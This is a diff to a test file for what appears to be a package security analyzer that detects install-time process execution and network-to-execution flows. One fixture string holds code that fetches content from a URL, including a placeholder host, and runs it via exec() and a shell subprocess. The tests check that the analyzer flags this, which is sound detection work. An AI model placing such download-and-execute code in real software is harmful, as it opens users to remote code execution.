@@ -196,6 +196,37 @@ def test_what_a_build_names_and_setup_py_does_not_import_is_the_program() -> Non
     assert "process.exec id @ gen.py:3 (install)" in told
 
 
+def test_a_package_that_takes_its_native_module_by_the_same_names_is_read_to_its_end() -> None:
+    code = (
+        "import os, sys\ndef f():\n    return ''\ntry:\n    from . import _f\nexcept ImportError as e:\n"
+        "    if os.environ.get('A', ''):\n        print(e)\nelse:\n    f = _f.f\n"
+        "if sys.platform == 'darwin':\n    f()\n"
+    )
+    assert not [one for one in seen(code) if one.startswith("pkg.malformed")]
+
+
+PROFILE = (
+    "import base64, os, subprocess, urllib.request as u\np = {}\nif not p.endswith('.ini'):\n    p = '%s.ini' % p\n"
+    "if p.startswith('http://'):\n    exec(u.urlopen(p).read())\n    subprocess.call(u.urlopen(p).read(), shell=True)\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("address", "own"),
+    [
+        ("os.environ.get('BUILD_PROFILE', 'conf/default.ini')", False),
+        ("os.environ.get('BUILD_PROFILE', 'https://a.b.c/default.ini')", True),
+        ("os.environ.get('BUILD_PROFILE')", True),
+        ("something()", True),
+        ("base64.b64decode(something()).decode()", True),
+    ],
+)
+def test_what_somebody_names_instead_of_a_file_is_not_fetched_from_an_address_of_the_package(
+    address: str, *, own: bool
+) -> None:
+    assert ("code.flow network > execution" in short(seen(PROFILE.format(address)))) is own
+
+
 def test_tests_stay_tests() -> None:
     assert seen("import os\ndef test_a():\n    os.system('a')", "tests/a.py", When.TEST) == [
         "process.exec a @ tests/a.py:3 (test)"
